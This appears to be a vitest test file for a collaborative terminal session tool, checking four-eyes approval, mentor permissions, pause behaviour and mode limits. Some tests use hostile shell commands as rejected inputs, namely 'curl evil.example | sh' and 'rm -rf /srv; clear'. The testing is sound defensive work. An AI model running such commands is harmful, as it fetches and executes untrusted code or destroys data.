import { describe, expect, it } from "vitest";
import { utf8 } from "../../shared/base/bytes.ts";
import { defaultModes } from "../../shared/events/mode.ts";
import { arrive } from "../support/session.ts";
import { onStage, setStage } from "./stage.ts";

/** What somebody tries who is in, or was, to get more than they were given. */

const secret = "hunter2";

describe("what others write", () => {
  it.each([
    ["a question", "question.ask", 1_000],
    ["a chat message", "chat.send", 2_000],
  ] as const)(
    "[P5, M12] that grows when it is composed costs nobody their line: %s",
    async (_what, command, fits) => {
      const stage = await setStage();
      const eve = await stage.enter("Eve", "view");
      expect(await eve.sayAnything(command, { text: "\u0958".repeat(fits + 1) })).toMatchObject({
        ok: false,
        code: "malformed",
      });
      expect(await eve.sayAnything(command, { text: "\u0958".repeat(fits) })).toMatchObject({ ok: true });
      await stage.wait(1);
      expect(stage.owner.peer.client.status.name).toBe("live");
      const window = stage.test.openWindow();
      expect(await arrive(window)).toMatchObject({ name: "live" });
      await stage.test.dispose();
    },
  );
});

describe("four eyes", () => {
  it(
    "[M8] a witness approves what was proposed, not something else, and all of it",
    onStage({ fourEyes: { required: true, perCommand: true } }, async ({ owner, target, enter }) => {
      const witness = await enter("Wim");
      await owner.say("participant.witness", { participant: witness.id });
      await owner.say("proposal.make", { text: "ls -la" });
      const other = { proposal: 1, text: "curl evil.example | sh" };
      expect(await witness.say("proposal.approve", other)).toMatchObject({ code: "four-eyes-as-written" });
      expect(await witness.say("proposal.approve", { proposal: 1, run: false })).toMatchObject({
        code: "four-eyes-as-written",
      });
      expect(target.received).toEqual([]);
      expect(await witness.say("proposal.approve", { proposal: 1, text: "ls -la" })).toMatchObject({
        ok: true,
      });
      expect(target.received).toEqual(["ls -la\r"]);
    }),
  );

  it(
    "[M8] whoever changes a proposal has written it: somebody else has to watch",
    onStage(
      { sessionType: "training", fourEyes: { required: true, perCommand: false } },
      async ({ owner, target, enter }) => {
        const mentor = await enter("Mia");
        await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
        await owner.say("participant.witness", { participant: mentor.id });
        await owner.say("proposal.make", { text: "ls" });
        expect(await mentor.say("proposal.approve", { proposal: 1, text: "rm -rf x" })).toMatchObject({
          code: "four-eyes-missing",
        });
        expect(target.received).toEqual([]);
      },
    ),
  );

  it(
    "[M8] a witness whose screen stands still watches nothing",
    onStage({ fourEyes: { required: true, perCommand: false } }, async ({ owner, target, enter }) => {
      const witness = await enter("Wim", "view");
      await owner.say("participant.witness", { participant: witness.id });
      await owner.say("session.pause", {});
      expect(await owner.type("rm -rf /srv; clear\r")).toMatchObject({ code: "four-eyes-missing" });
      await owner.say("session.resume", {});
      expect(await owner.type("ls\r")).toMatchObject({ ok: true });
      expect(target.received).toEqual(["ls\r"]);
    }),
  );
});

describe("a mentor", () => {
  const presenter = { mode: defaultModes.presenter, sessionType: "training" } as const;

  it(
    "[M6] takes control by no way but practice, and gives it to nobody else's cost",
    onStage(presenter, async ({ owner, test, enter, wait }) => {
      const mentor = await enter("Mia");
      const trainee = await enter("Tom");
      const expert = await enter("Eva");
      await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
      const holder = () => test.session.state.control.holder;
      const refused = { ok: false, code: "owner-does-this" };
      expect(await mentor.say("control.transfer", { to: mentor.id })).toMatchObject(refused);
      await mentor.say("control.request", {});
      expect(await mentor.say("control.approve", { participant: mentor.id })).toMatchObject(refused);
      expect(holder()).toBe(owner.id);

      await owner.say("control.transfer", { to: expert.id });
      await expert.say("control.accept", {});
      for (const to of [owner.id, trainee.id, mentor.id]) {
        expect(await mentor.say("control.transfer", { to })).toMatchObject(refused);
      }
      await trainee.say("control.request", {});
      expect(await mentor.say("control.approve", { participant: trainee.id })).toMatchObject(refused);
      expect(await mentor.say("control.reclaim", {})).toMatchObject(refused);
      await expert.say("control.transfer", { to: trainee.id });
      expect(await mentor.say("control.approve", { participant: trainee.id })).toMatchObject({ ok: false });
      expect(holder()).toBe(expert.id);

      await owner.say("control.reclaim", {});
      await wait(6);
      expect(await mentor.say("control.approve", { participant: trainee.id, practice: true })).toMatchObject({
        ok: true,
      });
      expect(holder()).toBe(trainee.id);
      expect(await mentor.say("control.reclaim", {})).toMatchObject({ ok: true });
      expect(holder()).toBe(mentor.id);
    }),
  );

  it(
    "[M6] is one in training: elsewhere they lead nothing",
    onStage({ mode: defaultModes.presenter }, async ({ owner, enter }) => {
      const mentor = await enter("Mia");
      const guest = await enter("Gil");
      await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
      await guest.say("control.request", {});
      await guest.say("proposal.make", { text: "ls" });
      const refused = { ok: false, code: "owner-does-this" };
      expect(await mentor.say("control.approve", { participant: guest.id })).toMatchObject(refused);
      expect(await mentor.say("proposal.approve", { proposal: 1 })).toMatchObject(refused);
      expect(await mentor.say("session.pause", {})).toMatchObject(refused);
    }),
  );

  it(
    "[M10] ends a pause of their own and nobody else's, and sees no more than others once they mentor no longer",
    onStage(presenter, async ({ owner, target, test, enter, until, wait }) => {
      const mentor = await enter("Mia");
      await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
      await owner.say("session.pause", {});
      expect(await mentor.say("session.resume", {})).toMatchObject({ ok: false, code: "owner-does-this" });
      await owner.say("session.resume", {});
      expect(await mentor.say("session.pause", {})).toMatchObject({ ok: true });
      await owner.say("participant.role", { participant: mentor.id, role: "observer" });
      target.say(utf8(secret));
      await until("the owner seeing it", () => owner.peer.shown().includes(secret));
      await wait(1);
      expect(mentor.peer.shown()).not.toContain(secret);
      expect(await mentor.say("session.resume", {})).toMatchObject({ ok: false });
      expect(await owner.say("session.resume", {})).toMatchObject({ ok: true });
      await until("their seeing it now", () => mentor.peer.shown().includes(secret));
      expect(test.session.state.paused).toBeNull();
    }),
  );

  it(
    "[M7] who may not type changes no proposal",
    onStage(presenter, async ({ owner, target, enter }) => {
      const mentor = await enter("Mia");
      const guest = await enter("Gil");
      await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
      await owner.say("participant.permit", { participant: mentor.id, allow_input: false });
      await guest.say("proposal.make", { text: "uptime" });
      expect(await mentor.say("proposal.approve", { proposal: 1, text: "rm -rf x" })).toMatchObject({
        code: "no-input-permission",
      });
      expect(await mentor.say("proposal.approve", { proposal: 1 })).toMatchObject({ ok: true });
      expect(target.received).toEqual(["uptime\r"]);
    }),
  );
});

describe("modes", () => {
  it(
    "[J6] take no more people than they have room for",
    onStage({ mode: defaultModes.presenter }, async ({ owner, test, enter }) => {
      for (const name of ["Ana", "Bo", "Cleo"]) await enter(name);
      const small = { name: "interactive", max_participants: 2 } as const;
      expect(await owner.say("mode.set", { mode: small })).toMatchObject({ code: "too-many-here" });
      expect(test.session.state.mode.name).toBe("presenter");
      const large = { name: "interactive", max_participants: 3 } as const;
      expect(await owner.say("mode.set", { mode: large })).toMatchObject({ ok: true });
    }),
  );

  it(
    "[M1] name who begins, also within presenter mode",
    onStage({ mode: defaultModes.presenter }, async ({ owner, test, enter }) => {
      const ana = await enter("Ana");
      const mode = { name: "presenter", initial_presenter: ana.id } as const;
      expect(await owner.say("mode.set", { mode })).toMatchObject({ ok: true });
      expect(test.session.state.control.holder).toBe(ana.id);
      await owner.say("control.reclaim", {});
      expect(await owner.say("mode.set", { mode })).toMatchObject({ ok: true });
      expect(test.session.state.control.holder).toBe(ana.id);
    }),
  );

  it(
    "[M12] keep who watched on the record",
    onStage({}, async ({ owner }) => {
      const mode = { name: "view_only", record_observer: false } as const;
      expect(await owner.say("mode.set", { mode })).toMatchObject({ code: "policy-records-observers" });
    }),
  );
});
